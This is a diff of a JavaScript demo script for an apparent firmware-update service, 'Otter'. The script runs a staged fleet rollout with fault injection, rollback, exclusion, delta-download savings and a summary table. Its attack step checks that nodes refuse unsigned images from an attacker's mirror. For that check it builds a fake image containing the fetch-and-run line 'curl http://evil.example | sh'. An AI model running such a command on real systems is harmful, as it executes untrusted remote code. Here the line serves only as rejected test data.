+    await showRun(OTTER, ['delta', 'list', '--hardware', HARDWARE]);
+    detail(
+      green(
+        `${build.targetPath}: ${formatBytes(build.patchBytes)} instead of ${formatBytes(to.length)} ` +
+          `(${Math.round(build.saving * 100)}% smaller), signed into the image repository`,
+      ),
+    );
+    await showRun(OTTER, ['release', 'list', '--hardware', HARDWARE]);
+    return build;
+  },
+);
+
+// 6. The rollout, up to its pause.
+const rollout = await step(6, `Roll ${NEXT_VERSION} out to the fleet in three waves`, async () => {
   const args = [
-    'fetch',
-    '--server',
-    base,
-    '--root',
-    shown(deviceRoot),
-    '--target',
-    target,
-    '--out',
-    shown(outFile),
-    '--state-dir',
-    shown(join(device, 'state')),
+    'rollout',
+    'create',
+    '--hardware',
+    HARDWARE,
+    '--version',
+    NEXT_VERSION,
+    '--label',
+    fleetLabel,
+    ...WAVES.flatMap((w) => ['--wave', w]),
+    '--success',
+    '100%',
+    '--failure',
+    FAILURE_SHARE,
+    '--max-attestation-age',
+    '10m',
+    '--start',
   ];
-  showCommand(AGENT, args);
-  const started = performance.now();
-  const result = await run(AGENT, args);
-  const took = performance.now() - started;
-  if (result.code !== 0)
-    throw new StepFailure(`otter-agent fetch failed (exit code ${result.code}): ${result.stderr.trim()}`);
-  detail(dim(result.stdout.trim()));
-  const report = JSON.parse(result.stdout.trim().split('\n').pop());
-  const actual = createHash('sha256').update(readFileSync(outFile)).digest('hex');
-  const expected = published[NEXT_VERSION].sha256;
-  if (actual !== expected || report.sha256 !== expected) {
+  detail(
+    `waves: ${WAVES.join(', ')} nodes (the last takes the rest); the next wave starts once every node of the ` +
+      `current one has proven ${NEXT_VERSION};`,
+  );
+  detail(
+    `the rollout pauses once ${FAILURE_SHARE} of a wave failed; a node is admitted only after a fresh passing ` +
+      'attestation (under 10 min old)',
+  );
+  const stdout = await showRun(OTTER, args);
+  const id = /^(\S+): running/m.exec(stdout)?.[1];
+  if (!id) throw new StepFailure(`otter rollout create printed no running rollout: ${stdout.trim()}`);
+  timeline.watch(id);
+  const members = JSON.parse(await runOk(OTTER, ['rollout', 'nodes', id, '--json'])).nodes;
+  const byId = new Map(fleet.map((n) => [n.id, n]));
+  for (const m of members) {
+    const node = byId.get(m.nodeId);
+    if (!node) throw new StepFailure(`rollout ${id} took node ${m.nodeId}, which is not in this run's fleet`);
+    node.wave = m.wave;
+  }
+  if (members.length !== fleet.length) {
+    throw new StepFailure(`rollout ${id} took ${members.length} nodes, not the fleet's ${fleet.length}`);
+  }
+  const waves = WAVES.map((_, w) => fleet.filter((n) => n.wave === w));
+  detail(
+    `started: ${waves.map((nodes, w) => `wave ${w + 1} = ${nodes.map((n) => n.name).join(', ')}`).join('; ')}`,
+  );
+  detail(dim(`(\`otter rollout nodes ${id}\`: a node's wave is a hash of the rollout id and the node id)`));
+  // The second wave's first node gets a fault before its wave begins: its health check fails after boot.
+  const bad = waves[BAD_NODE_WAVE][0];
+  writeFileSync(bad.fault, `${FAULT}\n`);
+  detail(
+    yellow(
+      `${bad.name} (wave ${BAD_NODE_WAVE + 1}) gets a fault: the demo writes ${shown(bad.fault)}, so from now on its ` +
+        'health check fails after a boot:',
+    ),
+  );
+  detail(yellow(`"${FAULT}"; it stands in for a release that does not run on this board`));
+  out();
+  detail(
+    bold('Timeline (seconds since the rollout started; `otter-agent run` output and the rollout state):'),
+  );
+  await waitForRollout((r) => r.state !== 'running', 180_000, 'the rollout to pause');
+  const paused = timeline.rollout;
+  if (paused.state !== 'paused' || !/^failure threshold: wave 2 /.test(paused.stateReason ?? '')) {
     throw new StepFailure(
-      `downloaded file has sha256 ${actual} (agent reported ${report.sha256}), pushed ${expected}`,
+      `the rollout is ${paused.state} (${paused.stateReason}), not paused at wave 2's failure threshold`,
     );
+  }
+  timeline.flush();
+  out();
+  await showRun(OTTER, ['rollout', 'show', id]);
+  return { id, bad, waves };
+});
+
+// 7. The operator's answer.
+await step(7, `Exclude the broken node, resume, and let the rollout complete`, async () => {
+  const { id, bad } = rollout;
+  const badState = (await api(`/api/v1/rollouts/${id}/nodes`)).nodes.find((n) => n.nodeId === bad.id);
+  if (badState?.state !== 'rolled-back') {
+    throw new StepFailure(`${bad.name} is ${badState?.state} in the rollout, not rolled-back`);
+  }
+  const badBoot = readBootEnv(bad);
+  detail(
+    `${bad.name} rolled itself back: ${badState.reason}; it boots slot ${badBoot.otter_booted_slot} (${BASE_VERSION}) ` +
+      `again (boot env otter_last_trial=${badBoot.otter_last_trial})`,
+  );
+  const reason = `${bad.name}: faulty board, sent for repair`;
+  let at = Date.now();
+  await showRun(OTTER, ['rollout', 'exclude', id, bad.id, '--reason', reason]);
+  timeline.note(at, `otter rollout exclude ${bad.name} --reason '${reason}'`);
+  at = Date.now();
+  await showRun(OTTER, ['rollout', 'resume', id]);
+  timeline.note(at, 'otter rollout resume');
+  out();
+  await waitForRollout(
+    (r) => r.state !== 'running' && r.state !== 'paused',
+    240_000,
+    'the rollout to complete',
+  );
+  const final = timeline.rollout;
+  if (final.state !== 'completed') {
+    throw new StepFailure(
+      `the rollout ended ${final.state} (${final.stateReason ?? 'no reason'}), not completed`,
+    );
+  }
+  timeline.flush();
+  out();
+  await showRun(OTTER, ['rollout', 'show', id]);
+  await showRun(OTTER, ['rollout', 'nodes', id]);
+  // What the nodes themselves hold: the new release in slot B, committed; the bad node on slot A.
+  const states = new Map((await api(`/api/v1/rollouts/${id}/nodes`)).nodes.map((n) => [n.nodeId, n]));
+  for (const node of fleet) {
+    const state = states.get(node.id)?.state;
+    const bootEnv = readBootEnv(node);
+    const slot = bootEnv?.otter_booted_slot;
+    const expected = node === bad ? ['excluded', 'a', BASE_VERSION] : ['succeeded', 'b', NEXT_VERSION];
+    const holds = sha256(readFileSync(slot === 'b' ? node.slotB : node.slotA));
+    if (state !== expected[0] || slot !== expected[1] || holds !== images[expected[2]].sha256) {
+      throw new StepFailure(
+        `${node.name}: rollout state ${state}, boots slot ${slot} holding sha256 ${holds.slice(0, 12)}…; ` +
+          `expected ${expected[0]}, slot ${expected[1]} with ${expected[2]}`,
+        ['api', node.name],
+      );
+    }
+    node.final = { state, slot, version: expected[2] };
   }
   detail(
-    `downloaded ${report.bytesDownloaded.toLocaleString('en-US')} bytes (${formatBytes(report.bytesDownloaded)}) ` +
-      `in ${seconds(took)}, metadata verified against the trusted root`,
+    green(
+      `${fleet.length - 1} nodes boot slot b, which holds ${NEXT_VERSION} byte for byte (sha256 ` +
+        `${images[NEXT_VERSION].sha256.slice(0, 16)}…); ${bad.name} boots slot a with ${BASE_VERSION}`,
+    ),
   );
-  detail(green(`sha256 of ${shown(outFile)} = ${actual} = the pushed ${NEXT_VERSION}`));
-  return { outFile, bytes: report.bytesDownloaded, sha256: actual };
+  timeline.stop();
 });
 
-// 6. Attacks.
-await step(6, 'The device refuses what the repository did not sign', async () => {
+// 8. Attacks.
+const attackDir = join(demoDir, 'attacks');
+const attackRoot = join(fleetDir, 'image-root.json');
+const target = `images/${HARDWARE}/${NEXT_VERSION}`;
+await step(8, 'A node refuses what the repository did not sign', async () => {
+  rmSync(attackDir, { recursive: true, force: true });
+  mkdirSync(attackDir, { recursive: true });
+  detail(
+    dim(
+      `\`otter-agent fetch\` with the fleet's trusted root (${shown(attackRoot)}), from a mirror an attacker runs:`,
+    ),
+  );
   const evilImage = Buffer.from('#!/bin/sh\n# not from Otter\ncurl http://evil.example | sh\n'.repeat(4096));
   const attacks = [
     {
@@ -638,19 +963,66 @@ await step(6, 'The device refuses what the repository did not sign', async () =>
   await expectRefusal({ server: base, target: unknown, expect: 'TARGET_NOT_FOUND', state: 'unknown' });
 });
 
-// 7. Summary.
-await step(7, 'Summary', async () => {
+// 9. Summary.
+await step(9, 'Summary', async () => {
+  const { id, bad } = rollout;
+  const rows = fleet.map((node) => {
+    const installed = node.events.find((e) => e.step === 'installed');
+    const how = installed ? describeDownload(installed) : undefined;
+    const outcome =
+      node === bad ? `rolled back (${FAULT.split(':')[0]}), excluded` : 'committed, proven by attestation';
+    return [
+      node.name,
+      String(node.wave + 1),
+      node.final.state,
+      node.final.slot,
+      node.final.version,
+      how?.text ?? '-',
+      outcome,
+    ];
+  });
+  for (const line of table(['node', 'wave', 'state', 'boots', 'runs', 'downloaded', 'outcome'], rows))
+    detail(line);
+  const downloads = fleet.flatMap((n) =>
+    n.events.filter((e) => e.step === 'installed').map(describeDownload),
+  );
+  const fetched = downloads.reduce((s, d) => s + d.bytes, 0);
+  const full = downloads.reduce((s, d) => s + d.length, 0);
+  const deltas = downloads.filter((d) => d.method === 'delta').length;
+  out();
+  detail(
+    bold(
+      `bytes saved by deltas: ${formatBytes(full - fetched)} (${Math.round(((full - fetched) / full) * 100)}%)`,
+    ) +
+      `: ${downloads.length} installs of ${NEXT_VERSION} (${deltas} by delta) downloaded ${formatBytes(fetched)} ` +
+      `instead of ${formatBytes(full)}`,
+  );
+  // The server's count: what nodes reported (POST /api/v1/devices/me/downloads), over every run on this data dir.
+  const savingsArgs = ['delta', 'savings', '--hardware', HARDWARE, '--json'];
+  const row = JSON.parse(await runOk(OTTER, savingsArgs)).releases.find((r) => r.version === NEXT_VERSION);
+  detail(
+    row
+      ? dim(
+          `\`${commandLine(OTTER, savingsArgs)}\` (every run on this data dir): ${row.downloads} downloads of ` +
+            `${NEXT_VERSION}, ${formatBytes(row.bytesDownloaded)} downloaded, ${formatBytes(row.bytesSaved)} saved`,
+        )
+      : yellow(
+          `\`${commandLine(OTTER, savingsArgs)}\`: no download of ${NEXT_VERSION} was reported to Otter`,
+        ),
+  );
+  out();
   detail(green(`every step passed in ${seconds(performance.now() - storyStarted)}`));
   detail(
-    `${HARDWARE} ${NEXT_VERSION}: sha256 ${download.sha256}, ${formatBytes(download.bytes)} verified on the device`,
+    `rollout ${id}: ${fleet.length - 1} of ${fleet.length} nodes on ${NEXT_VERSION}, ${bad.name} excluded ` +
+      `(\`bin/otter rollout show ${id}\`)`,
   );
+  detail(`delta ${delta.targetPath}: ${formatBytes(delta.patchBytes)}`);
   detail(
     `data dir       ${shown(dataDir)} (database, blobs, keys, admin-token; demo files in ${shown(demoDir)})`,
   );
-  detail(`service logs   ${shown(logDir)}/{${APPS.join(',')}}.log`);
-  detail(`API            ${base}/api/v1/releases (token: ${shown(join(dataDir, 'admin-token'))})`);
+  detail(`logs           ${shown(logDir)}/{${APPS.join(',')},node-1..node-${FLEET_SIZE}}.log`);
+  detail(`API            ${base}/api/v1/rollouts (token: ${shown(join(dataDir, 'admin-token'))})`);
   detail(`TUF metadata   ${base}/tuf/image/metadata/timestamp.json (trusted root: 1.root.json)`);
-  detail(`TUF targets    ${base}/tuf/image/targets/`);
   if (serverInfo.isDevRoot)
     detail(yellow(`TUF root       development root, key ${shown(serverInfo.devKey)}`));
 });
@@ -662,14 +1034,12 @@ if (exitWhenDone) {
   await shutdown(0);
 } else {
   out();
-  out(bold('Otter keeps running. Try it yourself, then Ctrl-C stops everything:'));
-  detail(cyan(`OTTER_SERVER=${base} OTTER_DATA_DIR=${shown(dataDir)} bin/otter release list`));
-  detail(
-    cyan(
-      `bin/otter-agent fetch --server ${base} --root ${shown(deviceRoot)} --target images/${HARDWARE}/${BASE_VERSION} ` +
-        `--out /tmp/${HARDWARE}-${BASE_VERSION}.img --state-dir ${shown(join(device, 'state'))}`,
-    ),
+  out(
+    bold(`Otter and the ${FLEET_SIZE} agents keep running. Try it yourself, then Ctrl-C stops everything:`),
   );
+  detail(cyan(`export OTTER_SERVER=${base} OTTER_DATA_DIR=${shown(dataDir)}`));
+  detail(cyan(`bin/otter rollout list; bin/otter rollout nodes ${rollout.id}; bin/otter node list`));
+  detail(cyan(`bin/otter delta savings --hardware ${HARDWARE}`));
   void serviceDied.then((died) => {
     for (const app of [died.split(' ')[0]]) showLogTail(app);
     void shutdown(1, died);
@@ -707,15 +1077,176 @@ function seededBytes(seed, length) {
 async function listReleases(show) {
   const args = ['release', 'list', '--hardware', HARDWARE, '--json'];
   if (show) showCommand(OTTER, args);
-  const result = await run(OTTER, args, { showStderr: false });
-  if (result.code !== 0) throw new StepFailure(`otter release list --json failed: ${result.stderr.trim()}`);
-  return JSON.parse(result.stdout).releases;
+  return JSON.parse(await runOk(OTTER, args)).releases;
+}
+
+/**
+ * Publishes one built image with `otter release push`, unless an earlier run on this data dir did (releases
+ * are immutable: a second push is refused with 409 RELEASE_DUPLICATE, and looking first spares a multi-MiB
+ * upload the api refuses before reading it). Either way the server's release must be these exact bytes
+ * with these measurements.
+ */
+async function publish(built) {
+  const existing = await listReleases(true);
+  const known = existing.map((r) => r.version);
+  detail(known.length > 0 ? `${HARDWARE} has ${known.join(', ')}` : `nothing published for ${HARDWARE} yet`);
+  let release = existing.find((r) => r.version === built.version);
+  if (release) {
+    detail(
+      `${yellow(`already published ${HARDWARE} ${built.version}`)} by an earlier run  sha256 ` +
+        `${release.sha256.slice(0, 16)}…  ${formatBytes(release.length)} (pushing again: 409 RELEASE_DUPLICATE)`,
+    );
+  } else {
+    const args = [
+      'release',
+      'push',
+      shown(built.image),
+      '--hardware',
+      HARDWARE,
+      '--version',
+      built.version,
+      '--measurements',
+      shown(built.measurements),
+      '--notes',
+      `Otter demo release ${built.version}`,
+    ];
+    showCommand(OTTER, args);
+    const result = await run(OTTER, args);
+    if (result.code === 0) {
+      release = JSON.parse(result.stdout);
+      detail(
+        green(`published ${release.hardwareId} ${release.version}`) +
+          `  sha256 ${release.sha256.slice(0, 16)}…  ${formatBytes(release.length)}  target ${release.targetPath}`,
+      );
+    } else {
+      // On a TTY the CLI's error went straight to the terminal; otherwise it is in result.stderr.
+      if (result.stderr) for (const line of result.stderr.trimEnd().split('\n')) detail(dim(`  ${line}`));
+      // Someone else may have published it since we looked (409); the check below compares the bytes.
+      release = (await listReleases(false)).find((r) => r.version === built.version);
+      if (!release) {
+        throw new StepFailure(`otter release push ${built.version} failed (exit code ${result.code})`);
+      }
+      detail(`${yellow(`already published ${HARDWARE} ${built.version}`)} meanwhile (409 RELEASE_DUPLICATE)`);
+    }
+  }
+  if (release.sha256 !== built.sha256 || release.length !== built.length) {
+    throw new StepFailure(
+      `the server holds ${HARDWARE} ${built.version} with sha256 ${release.sha256} (${release.length} bytes), ` +
+        `not the image just built (${built.sha256}, ${built.length} bytes). Remove ${shown(dataDir)} or ` +
+        'choose another OTTER_DATA_DIR.',
+    );
+  }
+  if (release.measurements[String(BOOT_PCR)] !== built.pcr) {
+    throw new StepFailure(
+      `the server holds ${HARDWARE} ${built.version} with PCR ${BOOT_PCR} = ${release.measurements[String(BOOT_PCR)]}, ` +
+        `not ${built.pcr} (a data dir of an older demo?). Remove ${shown(dataDir)} or choose another OTTER_DATA_DIR.`,
+    );
+  }
+  detail(`PCR ${BOOT_PCR} reference measurement ${built.pcr.slice(0, 16)}…, signed with the release`);
+  return release;
+}
+
+/** Enrolls one node: enroll (pending), approve, enroll again (active), label. Shows the commands when `show`. */
+async function enroll(node, show) {
+  mkdirSync(node.dir, { recursive: true });
+  const say = async (cli, args) => {
+    if (show) showCommand(cli, args);
+    const stdout = await runOk(cli, args);
+    if (show) for (const line of stdout.trimEnd().split('\n')) if (line) detail(`  ${line}`);
+    return stdout;
+  };
+  const args = [
+    'enroll',
+    '--server',
+    base,
+    '--tpm',
+    node.tpm.tcti,
+    '--state-dir',
+    shown(node.dir),
+    '--hardware',
+    HARDWARE,
+    '--version',
+    BASE_VERSION,
+  ];
+  const lastJson = (stdout) => JSON.parse(stdout.trim().split('\n').pop());
+  const first = lastJson(await say(AGENT, args));
+  node.id = first.nodeId;
+  if (first.state !== 'active') {
+    await say(OTTER, ['node', 'approve', node.id]);
+    const second = lastJson(await say(AGENT, args));
+    if (second.state !== 'active') {
+      throw new StepFailure(`${node.name} (${node.id}) is ${second.state} after approval, not active`);
+    }
+  }
+  await say(OTTER, ['node', 'label', node.id, fleetLabel, `name=${node.name}`]);
+}
+
+/** One line of a node's `otter-agent run` output: its JSON events feed the summary and the timeline. */
+function agentLine(node, line) {
+  if (!line.startsWith('{')) return;
+  let event;
+  try {
+    event = JSON.parse(line);
+  } catch {
+    return;
+  }
+  if (event.event === 'update') node.events.push(event);
+  timeline.agentEvent(node, event);
+}
+
+/** Waits for the polled rollout to satisfy `check`; a StepFailure with every node's state after `timeoutMs`. */
+async function waitForRollout(check, timeoutMs, what) {
+  try {
+    await timeline.until(check, timeoutMs, what);
+  } catch (error) {
+    throw new StepFailure(error.message, ['scheduler', 'api']);
+  }
+}
+
+/** Runs `fn` over `items`, at most `limit` at a time. */
+async function mapLimit(items, limit, fn) {
+  const queue = [...items];
+  await Promise.all(
+    Array.from({ length: Math.min(limit, queue.length) }, async () => {
+      while (queue.length > 0) await fn(queue.shift());
+    }),
+  );
+}
+
+/** Waits until `check()` holds, polling; a StepFailure naming `what` (and logs to show) after `timeoutMs`. */
+async function until(check, timeoutMs, what, logs) {
+  const deadline = Date.now() + timeoutMs;
+  while (!check()) {
+    if (Date.now() > deadline)
+      throw new StepFailure(`timed out after ${seconds(timeoutMs)} waiting for ${what}`, logs);
+    await sleep(200);
+  }
+}
+
+/** A simulated node's boot environment variables (FileBootEnvironment's JSON), or undefined before it exists. */
+function readBootEnv(node) {
+  try {
+    return JSON.parse(readFileSync(node.bootEnv, 'utf8')).variables;
+  } catch {
+    return undefined;
+  }
+}
+
+/** Rows as left-aligned columns under a header. */
+function table(header, rows) {
+  const widths = header.map((h, i) => Math.max(h.length, ...rows.map((r) => r[i].length)));
+  const line = (cells) =>
+    cells
+      .map((c, i) => c.padEnd(widths[i]))
+      .join('  ')
+      .trimEnd();
+  return [line(header), ...rows.map(line)];
 }
 
 /** Waits for the scheduler to register its repeatable re-sign job in Redis; returns its interval (ms). */
 async function waitForResignSchedule(timeoutMs) {
   const { Queue } = await import('bullmq');
-  const { QUEUES, JOBS, redisOptions } = await import('#otter/queue');
+  const { QUEUES, JOBS, redisOptions } = await distLib('queue');
   const queue = new Queue(QUEUES.tufMaintenance, {
     connection: { ...redisOptions(serviceEnv.REDIS_URL), maxRetriesPerRequest: 1 },
     prefix: queuePrefix,
@@ -738,14 +1269,14 @@ async function waitForResignSchedule(timeoutMs) {
 
 /** Runs `otter-agent fetch` expecting it to fail with `expect`, write nothing and keep no partial download. */
 async function expectRefusal({ server, target: path, expect, state }) {
-  const dir = join(device, state);
+  const dir = join(attackDir, state);
   const outFile = join(dir, 'out.img');
   const args = [
     'fetch',
     '--server',
     server,
     '--root',
-    shown(deviceRoot),
+    shown(attackRoot),
     '--target',
     path,
     '--out',
